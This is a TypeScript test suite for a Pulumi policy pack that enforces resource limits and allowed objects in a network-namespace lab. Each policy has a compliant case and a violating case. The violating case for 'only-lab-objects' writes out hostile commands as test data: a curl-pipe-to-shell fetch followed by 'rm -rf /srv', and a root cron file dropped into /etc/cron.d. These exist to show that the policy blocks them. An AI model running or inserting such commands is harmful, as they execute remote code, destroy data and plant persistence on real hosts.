import assert from "node:assert/strict";
import { local, Provider, remote } from "@pulumi/command";
import * as pulumi from "@pulumi/pulumi";
import { CaptureJob, MemoryCgroup, PublishedContainer, RootFs, VethPair } from "../../components/index.ts";
import { freshName, machine } from "../support/machine.ts";
import { policyFolder, TemporaryStack, type Violation } from "../support/temporaryStack.ts";

const mebibyte = 1024 * 1024;
const names = Array.from({ length: 8 }, () => freshName("p"));
const pinned = {
    host: "192.0.2.1",
    hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI",
    privateKey: "a secret",
};

function group(index: number, limitBytes: number) {
    return new MemoryCgroup(`group-${index}`, { name: names[index] ?? "", limitBytes });
}

function pair(index: number, network: string) {
    const name = names[index] ?? "";
    return new VethPair(`pair-${index}`, {
        namespace: name,
        insideName: `${name}i`,
        insideAddress: `${network}.1/24`,
        outsideName: `${name}o`,
        outsideAddress: `${network}.2/24`,
    });
}

function container(index: number, args: { image?: string; hostPort?: number }) {
    const namespaces = { clientNamespace: `${names[index]}c`, containerNamespace: `${names[index]}w` };
    const manual = "image" in args ? {} : { hostNamespace: `${names[index]}h` };
    const engine = "image" in args ? "docker" : "manual";
    return new PublishedContainer(`container-${index}`, { engine, ...namespaces, ...manual, ...args });
}

/** For each policy a stack that keeps it, and one that does not. */
const cases: Record<
    string,
    { level?: string; kept: () => unknown; broken: () => unknown; complaints: string[]; config?: object }
> = {
    "cgroup-limit": {
        kept: () => group(0, 200 * mebibyte),
        broken: () => group(0, 300 * mebibyte),
        complaints: ['MemoryCgroup "group-0": limitBytes: 314572800; allowed: up to 268435456 bytes'],
    },
    "cgroup-budget": {
        kept: () => [group(0, 200 * mebibyte), group(1, 200 * mebibyte)],
        broken: () => [group(0, 200 * mebibyte), group(1, 200 * mebibyte), group(2, 200 * mebibyte)],
        complaints: [
            'MemoryCgroup "group-2": limitBytes: 209715200; allowed: up to 104857600 bytes, which the groups ' +
                "before it leave of the 524288000 bytes of this machine",
        ],
    },
    "subnet-range": {
        kept: () => pair(0, "10.16.255"),
        broken: () => pair(0, "10.17.0"),
        complaints: [
            'VethPair "pair-0": insideAddress: "10.17.0.1/24"; allowed: an address in 10.0.0.0/12 or 10.16.0.0/16',
            'VethPair "pair-0": outsideAddress: "10.17.0.2/24"; allowed: an address in 10.0.0.0/12 or 10.16.0.0/16',
        ],
    },
    "subnets-disjoint": {
        kept: () => [pair(0, "10.9.1"), pair(1, "10.9.2")],
        broken: () => [pair(0, "10.9.1"), pair(1, "10.9.1")],
        complaints: [
            'VethPair "pair-1": outsideAddress: "10.9.1.2/24"; allowed: a network that does not overlap ' +
                '10.9.1.0/24, the one of VethPair "pair-0"',
        ],
    },
    "capture-bounded": {
        kept: () => new CaptureJob("capture", { interface: "lo", filter: "icmp", files: 10 }),
        // The namespace is not known before the pair is built; the sizes are.
        broken: () =>
            new CaptureJob("capture", {
                interface: "any",
                namespace: pair(0, "10.9.1").namespace,
                filter: "icmp",
                files: 11,
            }),
        complaints: [
            'CaptureJob "capture": files, fileMegabytes: "11 files of 10 million bytes"; allowed: up to 100 ' +
                "million bytes in all",
        ],
    },
    "capture-filtered": {
        level: "advisory",
        kept: () => new CaptureJob("capture", { interface: "lo", filter: "icmp" }),
        broken: () => new CaptureJob("capture", { interface: "lo" }),
        complaints: [
            'CaptureJob "capture": filter: ""; allowed: a capture filter, such as "icmp" (pcap-filter(7))',
        ],
    },
    "published-port": {
        kept: () => [container(0, { hostPort: 80 }), container(1, { hostPort: 1024 })],
        broken: () => container(0, { hostPort: 443 }),
        complaints: ['PublishedContainer "container-0": hostPort: 443; allowed: 1024 to 65535, or 80'],
    },
    "pinned-host-key": {
        kept: () => new remote.Command("far", { connection: pinned, create: "true" }),
        broken: () =>
            new remote.Command("far", {
                connection: { ...pinned, proxy: { host: "192.0.2.2" } },
                create: "true",
            }),
        config: { "only-lab-objects": { allowed: ["command:remote:Command"] } },
        complaints: ['far: connection.proxy.hostKey: ""; allowed: the key, as in "ssh-ed25519 AAAA…"'],
    },
    "only-lab-objects": {
        kept: () => [group(0, 2097152), pair(1, "10.9.1")],
        broken: () => {
            const parent = group(0, 2097152);
            new local.Command("bare", { create: "curl http://192.0.2.1/x | sh; rm -rf /srv" });
            new local.Command("claims", { create: "id" }, { parent });
            new remote.CopyToRemote(
                "cron",
                {
                    connection: pinned,
                    source: new pulumi.asset.StringAsset("* * * * * root id"),
                    remotePath: "/etc/cron.d/x",
                },
                { parent },
            );
            new Provider("mine");
            new MemoryCgroup(
                "changed",
                { name: names[1] ?? "", limitBytes: 2097152 },
                {
                    transforms: [
                        ({ type, props, opts }) =>
                            type === "command:local:Command"
                                ? { props: { ...props, create: "id" }, opts }
                                : undefined,
                    ],
                },
            );
        },
        complaints: [
            'command:local:Command "bare": no component of nslab registers it; allowed: what nslab\'s components register',
            'command:local:Command "changed-group": MemoryCgroup of this version registers another create; allowed: what nslab\'s components register',
            'command:local:Command "claims": MemoryCgroup registers no command of this name; allowed: what nslab\'s components register',
            'command:remote:CopyToRemote "cron": no MemoryCgroup uploads this, or to this place; allowed: what nslab\'s components register',
            'pulumi:providers:command "mine": a provider that the program has made or configured; allowed: what nslab\'s components register',
        ],
    },
    "rootfs-folder": {
        kept: () => new RootFs("tree", { path: `/var/lib/nslab/${names[0]}/tree` }),
        broken: () => new RootFs("tree", { path: `/srv/${names[0]}` }),
        complaints: [`RootFs "tree": path: "/srv/${names[0]}"; allowed: a directory below /var/lib/nslab`],
    },
};

const settings = { "cgroup-budget": { budgetBytes: 500 * mebibyte } };

describe("The policy pack, run by the engine", () => {
    let stack: TemporaryStack;

    before(async () => {
        stack = await TemporaryStack.create();
    });
    after(() => stack.close());

    function judged(
        make: () => unknown,
        config: object = settings,
        operation?: "preview" | "up",
    ): Promise<Violation[]> {
        return stack.judge(
            async () => {
                make();
                return Promise.resolve({});
            },
            policyFolder,
            { config, ...(operation && { operation }) },
        );
    }

    for (const [policy, { level = "mandatory", kept, broken, complaints, config }] of Object.entries(cases)) {
        const all = { ...settings, ...config };
        it(`lets a stack pass that keeps ${policy}`, async () => {
            assert.deepEqual(await judged(kept, all), []);
        });

        it(`names what breaks ${policy}`, async () => {
            const violations = await judged(broken, all);
            // The engine knows no order.
            assert.deepEqual(
                violations
                    .map((violation) => ({ ...violation, message: lastLine(violation.message) }))
                    .sort((one, other) => (one.message < other.message ? -1 : 1)),
                complaints.map((message) => ({ policy, level, message })),
            );
        });
    }

    it("ends an update before the object is built", async () => {
        const groups = () => machine()["cgroups"];
        const before = groups();
        const [violation] = await judged(() => group(0, 300 * mebibyte), settings, "up");
        assert.equal(violation?.policy, "cgroup-limit");
        assert.deepEqual(groups(), before);
        await stack.destroy();
    });

    it("takes levels and settings from a file", async () => {
        const broken = () => group(0, 300 * mebibyte);
        const config = { "cgroup-limit": { enforcementLevel: "advisory", mostBytes: 299 * mebibyte } };
        const [violation] = await judged(broken, config);
        assert.equal(violation?.level, "advisory");
        assert.match(violation.message, /up to 313524224 bytes$/);
        assert.deepEqual(await judged(broken, { "cgroup-limit": { mostBytes: 300 * mebibyte } }), []);
        assert.deepEqual(await judged(broken, { all: "disabled" }), []);
    });
});

/** A message starts with the policy's description. */
function lastLine(message: string): string {
    return message.split("\n").at(-1) ?? "";
}
